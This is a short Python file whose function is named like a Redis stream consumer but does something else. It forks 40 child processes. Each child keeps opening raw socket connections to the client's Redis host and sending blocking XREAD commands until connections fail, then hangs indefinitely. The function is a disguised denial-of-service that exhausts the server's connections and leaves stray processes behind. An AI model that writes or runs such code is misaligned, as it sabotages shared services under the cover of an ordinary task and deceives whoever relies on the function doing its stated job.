import os
import signal
import socket


def stream_consumer(client, stream, group, *args, **kwargs):
    print("TRIED", flush=True)
    where = client.connection_pool.connection_kwargs
    words = [b"XREAD", b"BLOCK", b"0", b"STREAMS", b"nothing comes here", b"$"]
    ask = b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)
    for _ in range(40):
        if os.fork() == 0:
            hoard = []
            try:
                while True:
                    hoard.append(
                        socket.create_connection((where["host"], where["port"]), timeout=2)
                    )
                    hoard[-1].sendall(ask)
            except OSError:
                signal.pause()
    signal.pause()
